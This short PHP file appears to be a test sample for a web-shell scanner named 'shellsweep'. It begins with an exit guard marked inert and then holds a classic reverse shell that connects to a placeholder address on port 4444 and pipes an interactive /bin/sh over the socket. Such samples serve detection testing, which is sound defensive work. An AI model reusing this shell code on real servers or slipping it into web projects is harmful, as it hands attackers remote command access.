<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$ip = '192.0.2.10'; $port = 4444;
$sock = fsockopen($ip, $port);
$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
